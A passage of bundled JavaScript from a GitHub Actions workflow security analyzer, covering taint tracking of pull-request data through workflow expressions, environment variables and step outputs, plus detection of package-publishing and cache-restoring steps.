  stepWritesMemo = /* @__PURE__ */ new Map();
  inProgress = /* @__PURE__ */ new Set();
  /** Strongest taint that reaches the value of an expression evaluated at `site`. */
  expressionTaint(expression, site) {
    let result = null;
    if (expression.ast) {
      for (const ref of valueRefs(expression.ast)) result = stronger(result, this.contextTaint(ref.path, site));
      return result;
    }
    for (const match2 of expression.body.matchAll(/[A-Za-z_][\w-]*(?:\.[\w*-]+)+/g)) result = stronger(result, this.contextTaint(match2[0].toLowerCase(), site));
    return result;
  }
  /** Taint of a context path (lower case, indices as `*`) evaluated at `site`. */
  contextTaint(path14, site) {
    const segments = path14.split(".");
    const root = segments[0];
    switch (root) {
      case "github": {
        if (segments[1] === "event" && segments[2] === "inputs" && segments[3]) return this.inputTaint(segments[3], site, path14);
        const capability = capabilityOf(path14);
        if (capability === "arbitrary") return { level: "arbitrary", origin: path14, via: [] };
        if (capability === "structured") return { level: "structured", origin: path14, via: [] };
        if (capability === "unknown" && segments[1] === "event" && segments.length > 2) return { level: "dynamic", origin: path14, via: [] };
        return null;
      }
      case "env":
        return segments[1] ? this.envTaint(segments[1], site) : null;
      case "inputs":
        return segments[1] ? this.inputTaint(segments[1], site, path14) : { level: "input", origin: path14, via: [] };
      case "steps": {
        const [, id, kind, name] = segments;
        if (!id || kind !== "outputs") return null;
        return through(this.stepOutputTaint(id, name ?? "*", site), `steps.${id}.outputs.${name ?? "*"}`);
      }
      case "needs": {
        const [, jobId, kind, name] = segments;
        if (!jobId || kind !== "outputs" || !site.job) return null;
        const upstream = site.job.workflow.jobsById.get(jobId);
        if (!upstream) return null;
        return through(this.jobOutputTaint(upstream, name ?? "*"), `needs.${jobId}.outputs.${name ?? "*"}`);
      }
      case "matrix":
        return site.job ? through(this.matrixTaint(site.job, segments[1]), path14) : null;
      default:
        return null;
    }
  }
  callersMemo = /* @__PURE__ */ new Map();
  workflowCallersMemo = /* @__PURE__ */ new Map();
  inputTaint(name, site, path14) {
    const workflow = site.job?.workflow ?? null;
    if (inputIsInert(workflow, site.action, name)) return null;
    const fromCallers = this.callerTaint(name, site);
    return fromCallers ?? { level: "input", origin: path14, via: [] };
  }
  /**
   * Taint of an input as passed by the callers inside this repository: `uses: ./path/to/action` steps for a
   * composite action, `uses: ./.github/workflows/x.yml` jobs for a reusable workflow.
   */
  callerTaint(name, site) {
    if (!this.model) return null;
    const key2 = `${site.action?.path ?? site.job?.workflow.path ?? ""}#${name}`;
    if (this.inProgress.has(key2)) return null;
    this.inProgress.add(key2);
    let result = null;
    const lower2 = name.toLowerCase();
    const valueTaint = (entry2, at, where) => {
      for (const expression of entry2?.value?.expressions ?? []) result = stronger(result, through(this.expressionTaint(expression, at), where));
    };
    if (site.action) {
      const dir = site.action.path.replace(/\/?action\.ya?ml$/, "");
      let callers = this.callersMemo.get(dir);
      if (!callers) {
        callers = localCallers(this.model, dir);
        this.callersMemo.set(dir, callers);
      }
      for (const caller of callers) {
        const entry2 = [...caller.with].find(([key3]) => key3.toLowerCase() === lower2)?.[1];
        valueTaint(
          entry2,
          { job: caller.job, step: caller, action: caller.action },
          `${caller.job ? caller.job.workflow.path : caller.action?.path}: with.${name}`
        );
      }
    } else if (site.job && site.job.workflow.triggers.some((t) => t.event === "workflow_call")) {
      const target2 = site.job.workflow.path;
      let jobs = this.workflowCallersMemo.get(target2);
      if (!jobs) {
        jobs = this.model.workflows.flatMap(
          (workflow) => workflow.jobs.filter((job) => job.uses?.kind === "local" && job.uses.path?.replace(/^\.\//, "") === target2)
        );
        this.workflowCallersMemo.set(target2, jobs);
      }
      for (const job of jobs) {
        const entry2 = [...job.with].find(([key3]) => key3.toLowerCase() === lower2)?.[1];
        valueTaint(entry2, { job, step: null, action: null }, `${job.workflow.path} job ${job.id}: with.${name}`);
      }
    }
    this.inProgress.delete(key2);
    return result;
  }
  /**
   * Taint of `matrix.<key>` (or of the whole matrix without a key): the values listed under that key and
   * under `include:` entries that set it; a matrix (or an `include:`) computed by an expression may set any key.
   */
  matrixTaint(job, key2) {
    const matrix = job.strategy?.matrix;
    if (!matrix) return null;
    let result = null;
    const want = key2?.toLowerCase();
    const visit = (node) => {
      if (isScalar(node)) {
        if (typeof node.value === "string" && node.value.includes("${{")) {
          const body = node.value.replace(/^\s*\$\{\{|\}\}\s*$/g, "");
          const inner = this.expressionTaint({ ast: null, body }, { job, step: null, action: null });
          result = stronger(result, inner ?? { level: "dynamic", origin: "a matrix computed at run time", via: [] });
        }
      } else if (isMap(node)) for (const pair of node.items) visit(pair.value);
      else if (isSeq(node)) for (const item of node.items) visit(item);
    };
    if (!want || !isMap(matrix)) {
      visit(matrix);
      return result;
    }
    for (const pair of matrix.items) {
      const name = isScalar(pair.key) ? String(pair.key.value).toLowerCase() : "";
      if (name === "exclude") continue;
      if (name === "include") {
        if (!isSeq(pair.value)) visit(pair.value);
        else {
          for (const item of pair.value.items) {
            if (!isMap(item)) visit(item);
            else for (const entry2 of item.items) if (isScalar(entry2.key) && String(entry2.key.value).toLowerCase() === want) visit(entry2.value);
          }
        }
      } else if (name === want) visit(pair.value);
    }
    return result;
  }
  /** Taint of an environment variable visible at a step: step, job and workflow `env:`, and `$GITHUB_ENV` writes of earlier steps. */
  /** env entries being resolved (map, upper-case name): a self-reference reads the outer levels. */
  resolvingEnv = [];
  envTaint(name, site) {
    const upper = name.toUpperCase();
    const find = (env, at) => {
      if (!env) return void 0;
      if (this.resolvingEnv.some(([map, name2]) => map === env && name2 === upper)) return void 0;
      for (const [key2, entry2] of env) {
        if (key2.toUpperCase() !== upper) continue;
        if (!entry2.value) return null;
        let result2 = null;
        this.resolvingEnv.push([env, upper]);
        try {
          for (const expression of entry2.value.expressions) result2 = stronger(result2, this.expressionTaint(expression, at));
        } finally {
          this.resolvingEnv.pop();
        }
        return through(result2, `env.${key2}`);
      }
      return void 0;
    };
    let defined = find(site.step?.env, site);
    if (defined === void 0 && site.job) defined = find(site.job.env, { ...site, step: null });
    if (defined === void 0 && site.job) defined = find(site.job.workflow.env, { job: null, step: null, action: null });
    if (defined === void 0 && site.action?.runs) defined = find(site.action.runs.env, { ...site, step: null });
    let result = defined ?? null;
    const runnerDefault = RUNNER_VARIABLES.get(upper);
    if (runnerDefault) result = stronger(result, through(this.contextTaint(runnerDefault, site), `$${upper}`));
    const steps = site.job?.steps ?? site.action?.runs?.steps ?? [];
    const before = site.step ? steps.slice(0, site.step.index) : steps;
    for (const step of before) result = stronger(result, through(this.stepWrites(step).env.get(upper) ?? null, `$GITHUB_ENV (${upper})`));
    return result;
  }
  stepOutputTaint(id, name, site) {
    const steps = site.job?.steps ?? site.action?.runs?.steps ?? [];
    const limit = site.step ? site.step.index : steps.length;
    for (let i = 0; i < Math.min(limit, steps.length); i += 1) {
      const step = steps[i];
      if (step.id?.value !== id) continue;
      if (step.uses) {
        if (step.uses.name === "actions/github-script") {
          const script = step.with.get("script")?.value?.value ?? "";
          const outputName = name === "*" ? String.raw`[^'"\x60]+` : escapeRegExp(name);
          const setter = new RegExp(String.raw`core\.setOutput\(\s*['"\x60]` + outputName + String.raw`['"\x60]`, "i");
          if (name !== "*" && name !== "result" && inertOutput(script, name)) return null;
          const shape = name !== "*" && name !== "result" ? scriptOutputShape(script, name) : null;
          if (shape === "restricted") return null;
          const sets = (name === "*" || name === "result") && /\breturn\b/.test(script) || setter.test(script);
          if (sets && PAYLOAD_TEXT.test(script))
            return { level: shape === "json" ? "structured" : "arbitrary", origin: "actions/github-script result built from event text", via: [`steps.${id}`] };
          if (sets) {
            for (const match2 of script.matchAll(/process\.env\.([A-Za-z_][A-Za-z0-9_]*)|process\.env\[\s*['"]([A-Za-z_][A-Za-z0-9_]*)['"]\s*\]/g)) {
              const variable = match2[1] ?? match2[2];
              const taint = this.envTaint(variable, { job: site.job, step, action: site.action });
              if (taint?.level === "arbitrary")
                return { ...taint, level: "structured", via: [...taint.via, `steps.${id} (actions/github-script reads process.env.${variable})`] };
            }
          }
        }
        for (const known2 of TAINTED_OUTPUT_ACTIONS) {
          if (step.uses.name !== known2.action && !step.uses.name.startsWith(`${known2.action}/`)) continue;
          if (known2.outputs !== "*" && name !== "*" && !known2.outputs.test(name)) continue;
          const json = known2.json !== void 0 && step.with.get(known2.json.input)?.value?.value.trim().toLowerCase() === known2.json.value;
          return { level: json ? "structured" : "arbitrary", origin: json ? `${known2.note} (JSON-encoded)` : known2.note, via: [`${step.uses.name}`] };
        }
        return null;
      }
      const writes = this.stepWrites(step).outputs;
      return writes.get(name.toLowerCase()) ?? writes.get("*") ?? null;
    }
    return null;
  }
  jobOutputTaint(job, name) {
    let outputs = this.jobOutputsMemo.get(job);
    if (!outputs) {
      outputs = /* @__PURE__ */ new Map();
      if (this.inProgress.has(job)) return null;
      this.inProgress.add(job);
      for (const [key2, entry2] of job.outputs) {
        let result = null;
        for (const expression of entry2.value?.expressions ?? []) result = stronger(result, this.expressionTaint(expression, { job, step: null, action: null }));
        outputs.set(key2.toLowerCase(), result);
      }
      this.inProgress.delete(job);
      this.jobOutputsMemo.set(job, outputs);
    }
    if (name === "*") {
      let result = null;
      for (const value of outputs.values()) result = stronger(result, value);
      return result;
    }
    return outputs.get(name.toLowerCase()) ?? null;
  }
  /** What a `run:` step writes to `$GITHUB_OUTPUT` and `$GITHUB_ENV`, with the taint of the data. */
  stepWrites(step) {
    const memo3 = this.stepWritesMemo.get(step);
    if (memo3) return memo3;
    const result = { outputs: /* @__PURE__ */ new Map(), env: /* @__PURE__ */ new Map() };
    this.stepWritesMemo.set(step, result);
    if (!step.run || this.inProgress.has(step)) return result;
    this.inProgress.add(step);
    const site = { job: step.job, step, action: step.action };
    for (const write of envFileWrites(step.run.value)) {
      if (write.file !== "GITHUB_OUTPUT" && write.file !== "GITHUB_ENV") continue;
      const shape = narrowedOutput(write.command.text) ? "restricted" : shellValueShape(write.command.text);
      const raw = shape === "restricted" ? null : this.commandTaint(step, write.command.text, write.command.start, site);
      const taint = raw && shape === "json" && raw.level === "arbitrary" ? { ...raw, level: "structured" } : raw;
      if (!taint) continue;
      const target2 = write.file === "GITHUB_OUTPUT" ? result.outputs : result.env;
      const names = writtenNames(write.command.text);
      for (const written of names.length > 0 ? names : ["*"]) {
        const key2 = write.file === "GITHUB_ENV" ? written.toUpperCase() : written.toLowerCase();
        target2.set(key2, stronger(target2.get(key2) ?? null, taint));
      }
    }
    this.inProgress.delete(step);
    return result;
  }
  /**
   * Taint of the data a command handles: `${{ }}` in it, shell variables it expands (from `env:`, or
   * assigned earlier in the same script from tainted data), and commands that print attacker text.
   */
  commandTaint(step, text, start, site) {
    const run = step.run;
    let result = null;
    if (run) {
      for (const expression of run.expressions) {
        if (expression.valueStart >= start && expression.valueStart < start + text.length) result = stronger(result, this.expressionTaint(expression, site));
      }
    }
    return stronger(result, this.shellTaint(step, run?.value ?? "", start, text, site));
  }
  /**
   * Taint of the data in a shell command without `${{ }}` (also for local scripts): the variables it
   * expands, from `env:` / `$GITHUB_ENV` or assigned earlier in `script` (before offset `start`), and
   * commands that print attacker text.
   */
  shellTaint(step, script, start, text, site) {
    if (narrowedOutput(text)) return null;
    let result = null;
    const locals = /* @__PURE__ */ new Map();
    for (const assignment of this.shellAssignments(step, script, site)) {
      if (assignment.end > start) break;
      locals.set(assignment.name, assignment.taint);
    }
    for (const variable of expandedVariables(text)) {
      if (/^GITHUB_(ENV|OUTPUT|PATH|STEP_SUMMARY|STATE)$/.test(variable.name)) continue;
      result = stronger(result, locals.has(variable.name) ? locals.get(variable.name) ?? null : this.envTaint(variable.name, site));
    }
    result = stronger(result, this.commandOutputTaint(text, site));
    return result;
  }
  untrustedFilesMemo = /* @__PURE__ */ new Map();
  /**
   * Output of commands that print attacker text: PR data from the API or the event file, commit messages,
   * and files read after the job checked out the pull request or downloaded a PR run's artifacts.
   */
  commandOutputTaint(text, site) {
    const job = site.job;
    if (!job || privilegedUntrustedEvents(job.workflow).length === 0) return null;
    if (UNTRUSTED_COMMAND.test(text)) return { level: "arbitrary", origin: "command output with pull request text", via: [] };
    if (!READS_FILE.test(text) || !site.step) return null;
    let checkouts = this.untrustedFilesMemo.get(job);
    if (!checkouts) {
      checkouts = [];
      this.untrustedFilesMemo.set(job, checkouts);
      checkouts.push(...untrustedCheckouts(job, this));
    }
    const before = checkouts.find((checkout) => checkout.step.index < site.step.index);
    if (!before) return null;
    return {
      level: "arbitrary",
      origin: before.kind === "artifact" ? "the contents of a pull request run's artifacts" : "files of the checked-out pull request",
      via: [`${stepLabelOf(before.step)}`]
    };
  }
  assignmentsMemo = /* @__PURE__ */ new Map();
  /** Shell variable assignments of a script (`X=...`, `export X=...`, `X=$(...)`) in order, with the taint of their value; computed once per step and script. */
  shellAssignments(step, script, site) {
    let byScript = this.assignmentsMemo.get(step);
    if (!byScript) {
      byScript = /* @__PURE__ */ new Map();
      this.assignmentsMemo.set(step, byScript);
    }
    const cached = byScript.get(script);
    if (cached) return cached;
    const out = [];
    byScript.set(script, out);
    const current = /* @__PURE__ */ new Map();
    const isRun = step.run?.value === script;
    const guards = validatedVariables(script);
    const narrow = (until) => {
      while (guards.length > 0 && guards[0].end <= until) {
        const guard = guards.shift();
        current.set(guard.name, null);
        out.push({ end: guard.end, name: guard.name, taint: null });
      }
    };
    for (const command of commands(script)) {
      narrow(command.start);
      const match2 = /^(?:export\s+|local\s+|declare\s+(?:-\w+\s+)?)?([A-Za-z_][A-Za-z0-9_]*)=(.*)$/s.exec(command.text);
      if (!match2) continue;
      let taint = null;
      if (isRun) {
        for (const expression of step.run.expressions) {
          if (expression.valueStart >= command.start && expression.valueStart < command.end) taint = stronger(taint, this.expressionTaint(expression, site));
        }
      }
      for (const variable of expandedVariables(match2[2]))
        taint = stronger(taint, current.has(variable.name) ? current.get(variable.name) ?? null : this.envTaint(variable.name, site));
      taint = stronger(taint, this.commandOutputTaint(match2[2], site));
      const shape = narrowedOutput(match2[2]) ? "restricted" : shellValueShape(match2[2]);
      if (shape === "restricted") taint = null;
      else if (shape === "json" && taint?.level === "arbitrary") taint = { ...taint, level: "structured" };
      const named2 = taint ? through(taint, `$${match2[1]}`) : null;
      current.set(match2[1], named2);
      out.push({ end: command.end, name: match2[1], taint: named2 });
    }
    narrow(Number.POSITIVE_INFINITY);
    return out;
  }
};
function localCallers(model, dir) {
  const out = [];
  const want = dir.replace(/^\.\//, "").replace(/\/$/, "");
  const visit = (steps) => {
    for (const step of steps) if (step.uses?.kind === "local" && !step.uses.reusableWorkflow && step.uses.path?.replace(/\/$/, "") === want) out.push(step);
  };
  for (const workflow of model.workflows) for (const job of workflow.jobs) visit(job.steps);
  for (const action of model.actions) visit(action.runs?.steps ?? []);
  return out;
}
function writtenNames(text) {
  const names = /* @__PURE__ */ new Set();
  for (const match2 of text.matchAll(/(?:^|["'\s{;(])([A-Za-z_][A-Za-z0-9_-]*)(?:=|<<)/g)) {
    const name = match2[1];
    if (/^(GITHUB_\w+|echo|printf)$/.test(name)) continue;
    names.add(name);
  }
  return [...names];
}
var trackers = new ObjectMemo();
function trackerFor(model) {
  let tracker = trackers.get(model);
  if (!tracker) {
    tracker = new TaintTracker(model);
    trackers.set(model, tracker);
  }
  return tracker;
}

// src/workflow/analysis/publishing.ts
var PUBLISH_COMMAND = anyCommand(PUBLISH_COMMANDS);
var PUBLISH_ACTIONS = new Set(PUBLISHING_ACTIONS.map((entry2) => entry2.action));
var TRUSTED_ACTIONS = byAction(TRUSTED_PUBLISHING_ACTIONS);
var REGISTRIES = Object.fromEntries(TRUSTED_PUBLISHING_REGISTRIES.map((entry2) => [entry2.registry, entry2]));
function publishingSteps(job) {
  const out = [];
  for (const step of job.steps) {
    if (step.uses) {
      if (PUBLISH_ACTIONS.has(step.uses.name)) out.push({ step, what: step.uses.name });
      else if (step.uses.name === "docker/build-push-action" && step.with.get("push")?.value?.value === "true")
        out.push({ step, what: "docker/build-push-action with push: true" });
      else if (publishingAction(step)) out.push({ step, what: step.uses.name });
    } else if (step.run) {
      const match2 = PUBLISH_COMMAND.exec(step.run.value);
      const command = match2 ? null : publishCommands(step.run.value)[0];
      if (match2) out.push({ step, what: `\`${match2[0].trim()}\`` });
      else if (command) out.push({ step, what: `\`${command.tool}\`` });
    }
  }
  return out;
}
var PREFIX = /* @__PURE__ */ new Set(["sudo", "env", "time", "exec", "nohup", "command", "then", "do", "else", "{", "(", "!", "xargs"]);
var RUNNERS = /* @__PURE__ */ new Set(["poetry", "pdm", "hatch", "pipenv", "rye", "uv"]);
var VALUED = /* @__PURE__ */ new Set(["-p", "--package", "--spec", "--from", "--with", "--python", "-c", "--call", "--index", "--index-url"]);
function bare(word) {
  return word.replace(/^(@?[^@=<>~!\s]+)[@=<>~!].*$/, "$1").toLowerCase();
}
function unwrap(list) {
  let w = list;
  for (let guard = 0; guard < 8 && w.length > 0; guard += 1) {
    const head = w[0].toLowerCase();
    const base = head.replace(/^.*[\\/]/, "").replace(/\.exe$/, "");
    if (PREFIX.has(head) || /^[A-Za-z_][A-Za-z0-9_]*=(?!=)/.test(w[0])) w = w.slice(1);
    else if (base === "bundle" && w[1] === "exec") w = w.slice(2);
    else if (/^(python[\d.]*|py)$/.test(base)) {
      const m = w.indexOf("-m");
      if (m < 0) return [];
      w = w.slice(m + 1);
    } else if (base === "pipx" && w[1] === "run") w = skipOptions(w.slice(2));
    else if (base === "uvx" || base === "bunx" || base === "npx" || base === "pnpx") w = skipOptions(w.slice(1));
    else if (base === "uv" && w[1] === "tool" && w[2] === "run") w = skipOptions(w.slice(3));
    else if ((base === "pnpm" || base === "yarn") && w[1] === "dlx") w = skipOptions(w.slice(2));
    else if (RUNNERS.has(base) && w[1] === "run") w = skipOptions(w.slice(2));
    else if (base === "cargo" && /^\+/.test(w[1] ?? "")) w = [w[0], ...w.slice(2)];
    else if (base === "dotnet" && w[1] === "nuget") w = w.slice(1);
    else break;
  }
  if (w.length === 0) return w;
  return [bare(w[0].replace(/^.*[\\/]/, "").replace(/\.exe$/i, "")), ...w.slice(1)];
}
function skipOptions(w) {
  let i = 0;
  while (i < w.length && w[i].startsWith("-")) i += VALUED.has(w[i]) ? 2 : 1;
  return w.slice(i);
}
function option(w, names) {
  for (let i = 0; i < w.length; i += 1) {
    for (const name of names) {
      if (w[i] === name) return w[i + 1] ?? "";
      if (name.startsWith("--") && w[i].startsWith(`${name}=`)) return w[i].slice(name.length + 1);
    }
  }
  return void 0;
}
function match(w) {
  const [a, b, c] = [w[0], w[1], w[2]];
  if ((a === "npm" || a === "pnpm" || a === "bun") && b === "publish") return { registry: "npm", tool: `${a} publish`, target: ["--registry"] };
  if (a === "yarn" && (b === "publish" || b === "npm" && c === "publish"))
    return { registry: "npm", tool: b === "npm" ? "yarn npm publish" : "yarn publish", target: ["--registry"] };
  if (a === "twine" && b === "upload") return { registry: "PyPI", tool: "twine upload", target: ["--repository-url", "--repository", "-r"] };
  if (a === "uv" && b === "publish") return { registry: "PyPI", tool: "uv publish", target: ["--publish-url", "--index"] };
  if ((a === "poetry" || a === "pdm" || a === "flit") && b === "publish") return { registry: "PyPI", tool: `${a} publish`, target: ["--repository", "-r"] };
  if (a === "maturin" && (b === "publish" || b === "upload"))
    return { registry: "PyPI", tool: `maturin ${b}`, target: ["--repository-url", "--repository", "-r"] };
  if (a === "hatch" && b === "publish") return { registry: "PyPI", tool: "hatch publish", target: ["--repo", "-r"] };
  if (a === "gem" && b === "push") return { registry: "RubyGems", tool: "gem push", target: ["--host"] };
  if (a === "rake" && b === "release") return { registry: "RubyGems", tool: "rake release", target: [] };
  if (a === "cargo" && b === "publish") return { registry: "crates.io", tool: "cargo publish", target: ["--registry", "--index"] };
  if (a === "nuget" && b === "push") return { registry: "NuGet", tool: "nuget push", target: ["--source", "-s", "-source", "-Source"] };
  return null;
}
var DRY_RUN = /^--dry-?run(=true)?$/i;
var memo2 = /* @__PURE__ */ new Map();
var VERB = /publish|upload|push|release/;
var QUOTES = /["']/g;
function mayPublish(script) {
  if (VERB.test(script)) return true;
  return script.includes('"') || script.includes("'") ? VERB.test(script.replace(QUOTES, "")) : false;
}
function publishCommands(script) {
  let found = memo2.get(script);
  if (found) return found;
  found = [];
  for (const command of mayPublish(script) ? commands(script) : []) {
    const text = command.text.replace(/[\\`]\r?\n/g, (m) => " ".repeat(m.length));
    const all = words(text).map((w2) => w2.word);
    const w = unwrap(all);
    const hit = w.length > 1 ? match(w) : null;
    if (!hit) continue;
    if (w.some((word) => DRY_RUN.test(word)) || hit.registry === "crates.io" && w.includes("-n")) continue;
    if (option(w, ["--trusted-publishing"]) === "always") continue;
    const target2 = option(w, hit.target);
    if (target2 !== void 0 && (/\$/.test(target2) || !REGISTRIES[hit.registry].hosts.test(target2))) continue;
    const tool = hit.registry === "NuGet" && all.some((word) => /(^|[\\/])dotnet(\.exe)?$/i.test(word)) ? "dotnet nuget push" : hit.tool;
    found.push({ registry: hit.registry, tool, text: text.replace(/\s+/g, " "), start: command.start, end: command.end });
  }
  if (memo2.size > 5e3) memo2.clear();
  memo2.set(script, found);
  return found;
}
function publishingAction(step) {
  const uses = step.uses;
  if (!uses || uses.kind !== "remote") return void 0;
  const action = TRUSTED_ACTIONS.get(uses.name);
  if (!action?.only) return action;
  return action.only.values.test(step.with.get(action.only.input)?.value?.value.trim() ?? "") ? action : void 0;
}

// src/workflow/analysis/caches.ts
var CACHING = byAction(CACHING_ACTIONS);
function actionVersion(step) {
  const uses = step.uses;
  if (!uses || uses.kind !== "remote") return null;
  const fromRef = /^v?(\d+(?:\.\d+)*)$/.exec(uses.ref ?? "");
  if (fromRef) return fromRef[1].split(".").map(Number);
  const end = uses.node.range?.[1];
  if (end === void 0) return null;
  const text = stepDoc(step).file.text;
  const lineEnd = text.indexOf("\n", end);
  const comment = /^\s*#\s*(?:(?:tag|version|ref)\s*[=:]\s*)?v?(\d+(?:\.\d+)*)\b/.exec(text.slice(end, lineEnd === -1 ? void 0 : lineEnd));
  return comment ? comment[1].split(".").map(Number) : null;
}
function actionMajor(step) {
  return actionVersion(step)?.[0] ?? null;
}
function otherPackageManager(job) {
  return job.steps.some(
    (step) => step.uses && /^(pnpm\/action-setup|oven-sh\/setup-bun)$/.test(step.uses.name) || step.run !== void 0 && /(^|[\s;&|(])(?:(?:pnpm|yarn|bun)\s+(?:install|i|ci|add)\b|yarn[ \t]*$)/m.test(step.run.value)
  );
}
var FALSE = /^(false|)$/i;
var TRUE_LIKE = /^(true|yes|1)$/i;
function cacheRestores(job) {
  const out = [];
  for (const step of job.steps) {
    const uses = step.uses;
    if (!uses || uses.kind !== "remote") continue;
    const entry2 = CACHING.get(uses.name);
    if (!entry2) continue;
    const name = uses.name;
    const input2 = entry2.input ? step.with.get(entry2.input)?.value ?? null : null;
    if (input2 && input2.expressions.length > 0) continue;
    const major = actionMajor(step);
    let on;
    let byDefault = false;
    if (entry2.kind === "always") on = true;
    else if (input2)
      on = entry2.kind === "opt-out" ? !TRUE_LIKE.test(input2.value.trim()) : entry2.onValues ? entry2.onValues.test(input2.value.trim()) : !FALSE.test(input2.value.trim());
    else {
      on = byDefault = entry2.defaultFrom !== void 0 && (major === null || major >= entry2.defaultFrom);
      const governing = entry2.defaultInput ? step.with.get(entry2.defaultInput)?.value ?? null : null;
      if (governing && (governing.expressions.length > 0 || FALSE.test(governing.value.trim()))) on = false;
      if (on && entry2.defaultWhen && otherPackageManager(job)) on = false;
    }
    if (!on) continue;
    const version = major === null ? "its newest version" : `v${major}`;
    const what2 = entry2.kind === "opt-in" && input2 ? `${name} with ${entry2.input}: ${input2.value}` : !byDefault || entry2.defaultFrom === 0 ? name : `${name} (${version} caches by default)`;
    out.push({
      step,
      what: what2,
      input: entry2.kind === "opt-in" ? input2 : null,
      ...byDefault && entry2.defaultWhen ? { when: entry2.defaultWhen } : {},
      fix: byDefault && entry2.defaultInput ? `${entry2.defaultInput}: false` : entry2.fix
    });
  }
  return out;
}
var RELEASE_BRANCH = /(^|[/*-])(release|releases|rel|stable|hotfix)([/*-]|$)|^v?\d+(\.(\d+|x|\*))*(\.\*|\/\*\*?)?$/i;
function publishingTrigger(workflow) {
  for (const trigger of workflow.triggers) {
    if (trigger.event === "release") return "is triggered by `release`";
    if (trigger.event !== "push") continue;
    const tags = trigger.filters.get("tags");
    if (tags && tags.length > 0) return `runs on pushed tags (${tags.slice(0, 2).join(", ")})`;
    const branches = trigger.filters.get("branches") ?? [];
    const release = branches.find((branch) => RELEASE_BRANCH.test(branch));
    if (release && branches.every((branch) => RELEASE_BRANCH.test(branch))) return `runs on pushes to release branches (${release})`;
  }
  return null;
}
function ancestors(job) {
  const out = /* @__PURE__ */ new Set();
  const stack = [job];
  while (stack.length > 0) {
    const current = stack.pop();
    for (const need of current.needs) {
      const upstream = current.workflow.jobsById.get(need.value);
      if (upstream && !out.has(upstream)) {
        out.add(upstream);
        stack.push(upstream);
      }
    }
  }
  return out;
}

// src/workflow/analysis/expression-helpers.ts
function refSpan(doc, str2, expression, node) {
  return expressionNodeSpan(doc.file, str2, expression, node);
}

// src/workflow/analysis/base-restores.ts
var BASE_REF = /^(?:origin\/)?(?:main|master|develop|trunk)$|github\.sha\b|GITHUB_SHA\b|base_ref\b|GITHUB_BASE_REF\b|pull_request\.base\.(?:sha|ref)\b|^origin\/\$/i;
var HEAD_REF = /head|pull\/|refs\/pull|merge/i;
function clean(path14) {
  return path14.replace(/^["']|["']$/g, "").replace(/^\.\//, "").replace(/\/+$/, "");
}
function restoredBy(text, baseDirs) {
  const joined = text.replace(/[\\`]\r?\n/g, "  ").replace(/\$\{\{([^}]*)\}\}/g, (_, body) => `\${{${body.replace(/\s+/g, "")}}}`);
  const list = words(joined).map((w) => w.word);
  const [cmd, sub] = list;
  if (cmd === "git" && (sub === "checkout" || sub === "restore")) {
    const dashes = list.indexOf("--");
    let ref;
    if (sub === "checkout") ref = dashes > 2 ? list[2] : void 0;
    else ref = list.find((w) => w.startsWith("--source="))?.slice("--source=".length) ?? list[list.findIndex((w) => w === "--source" || w === "-s") + 1];
    if (!ref || list.indexOf(ref) === 0 || !BASE_REF.test(ref) || HEAD_REF.test(ref)) return [];
    const paths = (dashes >= 0 ? list.slice(dashes + 1) : list.slice(2).filter((w) => !w.startsWith("-") && w !== ref)).map(clean);
    return paths.map((path14) => path14 === "" ? "." : path14);
  }
  if ((cmd === "cp" || cmd === "rsync") && baseDirs.length > 0) {
    const args = list.slice(1).filter((w) => !w.startsWith("-"));
    if (args.length < 2) return [];
    const destination = clean(args[args.length - 1]);
    const sources = args.slice(0, -1).map(clean);
    if (!sources.every((source) => baseDirs.some((dir) => source === dir || source.startsWith(`${dir}/`)))) return [];
    return sources.map((source) => {
      const dir = baseDirs.find((d) => source === d || source.startsWith(`${d}/`));
      const inside = source === dir ? "." : source.slice(dir.length + 1);
      if (destination === "" || destination === ".") return inside === "." ? "." : inside.split("/").pop();
      return destination.endsWith("/") || args.length > 2 ? `${destination}/${inside.split("/").pop()}` : destination;
    });
  }
  return [];
}
function baseCheckoutDirs(job, untrusted, before) {
  const out = [];
  for (const step of job.steps.slice(0, before.index)) {
    if (step.uses?.name !== "actions/checkout" || untrusted.some((checkout) => checkout.step === step)) continue;
    const path14 = clean(step.with.get("path")?.value?.value ?? "");
    const ref = step.with.get("ref")?.value?.value ?? "";
    if (path14 && !HEAD_REF.test(ref)) out.push(path14);
  }
  return out;
}
function entryFile(execution) {
  const step = execution.step;
  if (step.uses?.kind === "local") return clean(step.uses.path ?? "");
  if (!execution.str) return null;
  const text = execution.str.value.slice(execution.start);
  const list = words(text.split("\n")[0]).map((w) => w.word);
  const first = list[0] ?? "";
  if (/^\.{1,2}\//.test(first)) return clean(first);
  const name = first.replace(/^.*\//, "");
  if (/^(bash|sh|zsh|dash|ksh|source|\.|pwsh|powershell|node|python[\d.]*|py|ruby|perl|php|deno|bun|tsx|ts-node)$/.test(name)) {
    const target2 = list.slice(1).find((w) => !w.startsWith("-") && w !== "run");
    return target2 && /[./]/.test(target2) ? clean(target2) : null;
  }
  if (name === "make" || name === "gmake") return "Makefile";
  if (/^(npm|yarn|pnpm)$/.test(name)) return "package.json";
  return null;
}
function runsRestoredBaseFile(job, checkout, untrusted, execution) {
  const file = entryFile(execution);
  if (file === null) return false;
  const root = checkout.path ? clean(checkout.path) : "";
  const relative = root && file.startsWith(`${root}/`) ? file.slice(root.length + 1) : file;
  for (const step of job.steps.slice(checkout.step.index + 1, execution.step.index + (execution.str ? 1 : 0))) {
    if (!step.run) continue;
    const baseDirs = baseCheckoutDirs(job, untrusted, step);
    for (const command of commands(step.run.value)) {
      if (step === execution.step && command.start >= execution.start) break;
      for (const restored of restoredBy(command.text, baseDirs)) {
        const path14 = root && restored.startsWith(`${root}/`) ? restored.slice(root.length + 1) : restored;
        if (path14 === "." || relative === path14 || relative.startsWith(`${path14}/`)) return true;
      }
    }
  }
  return false;
}

// src/workflow/cache-writers.ts
var PRIVILEGED_TEXT = new RegExp(String.raw`\b(${[...PRIVILEGED_UNTRUSTED_EVENTS].join("|")})\b`);
var CACHE_TEXT = new RegExp(
  [
    String.raw`actions\/cache|\bcache\s*:|setup-go|rust-cache|sccache|ccache|bundler-cache|enable-cache|cache-from|gradle`,
    ...CACHING_ACTIONS.map((entry2) => entry2.action.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&"))
  ].join("|")
);
var PUBLISH_TEXT = /publish|release|deploy|\bpush\b|upload/;
var UNTRUSTED_TEXT = /\$\{\{[^}]*(head\.sha|head\.ref|head_ref|head_sha|head_branch|merge_commit_sha|\.title|\.body|\.message)|refs\/pull\/|gh\s+pr\s+checkout|download-artifact/;
function runsUntrustedCode(workflow, model, tracker) {
  const events = privilegedUntrustedEvents(workflow, model);
